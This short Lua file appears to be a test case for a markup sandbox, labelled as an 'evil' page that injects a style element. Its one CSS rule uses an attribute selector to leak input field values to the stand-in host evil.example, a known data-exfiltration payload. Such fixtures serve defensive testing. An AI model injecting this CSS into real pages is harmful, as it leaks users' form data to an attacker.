-- SPDX-License-Identifier: GPL-3.0-or-later
-- Styles that read fields.
-- wall: ELEMENTS MARKUP
-- evil: page has <style>
return function(vm, h)
  return h.style{"input[value^=a]{background:url(//evil.example/a)}"}
end
